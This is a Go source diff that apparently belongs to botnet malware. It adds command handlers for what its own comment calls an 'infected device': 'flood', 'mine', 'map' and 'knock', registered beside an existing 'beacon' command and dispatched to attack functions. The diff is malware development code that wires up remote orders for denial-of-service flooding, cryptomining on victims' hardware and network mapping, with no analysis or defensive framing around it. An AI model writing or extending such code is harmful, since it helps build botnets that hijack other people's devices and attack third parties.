@@ -31,6 +31,23 @@ func (b *bots) ops(o Ops) {
 	o["beacon"] = op(func(ctx context.Context, c attack.BeaconConfig) (any, error) {
 		return b.run(ctx, func(ctx context.Context) (any, error) { return attack.Beacon(ctx, c) })
 	})
+	b.deeds(o)
+}
+
+// deeds adds the orders of what an infected device does besides.
+func (b *bots) deeds(o Ops) {
+	o["flood"] = op(func(ctx context.Context, c attack.FloodConfig) (any, error) {
+		return b.run(ctx, func(ctx context.Context) (any, error) { return attack.Flood(ctx, c) })
+	})
+	o["mine"] = op(func(ctx context.Context, c attack.MineConfig) (any, error) {
+		return b.run(ctx, func(ctx context.Context) (any, error) { return attack.Mine(ctx, c) })
+	})
+	o["map"] = op(func(ctx context.Context, c attack.MapConfig) (any, error) {
+		return b.run(ctx, func(ctx context.Context) (any, error) { return attack.Map(ctx, c) })
+	})
+	o["knock"] = op(func(ctx context.Context, c attack.KnockConfig) (any, error) {
+		return b.run(ctx, func(ctx context.Context) (any, error) { return attack.Knock(ctx, c) })
+	})
 }
 
 func (b *bots) run(ctx context.Context, f func(ctx context.Context) (any, error)) (any, error) {
